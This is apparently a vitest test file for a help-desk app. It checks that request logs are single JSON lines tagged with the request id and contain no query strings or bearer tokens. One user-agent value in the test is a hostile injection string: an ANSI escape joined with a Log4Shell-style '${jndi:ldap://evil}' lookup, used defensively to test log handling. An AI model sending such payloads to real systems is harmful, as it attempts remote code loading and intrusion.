import { Writable } from 'node:stream'
import { expect, test } from 'vitest'
import { createLog } from '../outside/log.ts'
import { setupForTest } from '../testing/test-app.ts'

test('A44, P25: each answer is one line of JSON, told by the id that the reader sees, without query or headers', async () => {
  const lines: string[] = []
  const sink = new Writable({
    write(chunk: Buffer, _encoding, done) {
      lines.push(chunk.toString())
      done()
    },
  })
  const desk = await setupForTest({ logger: createLog('info', sink) })
  const seen = await desk.as('agent').get('/tickets?q=secreto-en-la-consulta')
  const browser = '\u001b[31mred ${jndi:ldap://evil}'
  const unseen = await desk.app.inject({
    url: '/api/v1/tickets/1',
    headers: { authorization: 'Bearer palabra-secreta', 'user-agent': browser },
  })
  await desk.app.inject('/healthz')

  expect(lines).toHaveLength(2)
  for (const line of lines) expect(line.indexOf('\n')).toBe(line.length - 1)
  const [first, second] = lines.map((line) => JSON.parse(line))
  expect(first).toMatchObject({
    msg: 'answered',
    reqId: seen.headers['x-request-id'],
    method: 'GET',
    path: '/api/v1/tickets',
    route: '/api/v1/tickets',
    status: seen.status,
    tenantId: desk.given.tenantId,
    userId: desk.given.users.agent.id,
  })
  expect(second).toMatchObject({ reqId: unseen.json().requestId, status: 401, browser })
  expect(lines.join('')).not.toMatch(/secreto-en-la-consulta|palabra-secreta/)
})
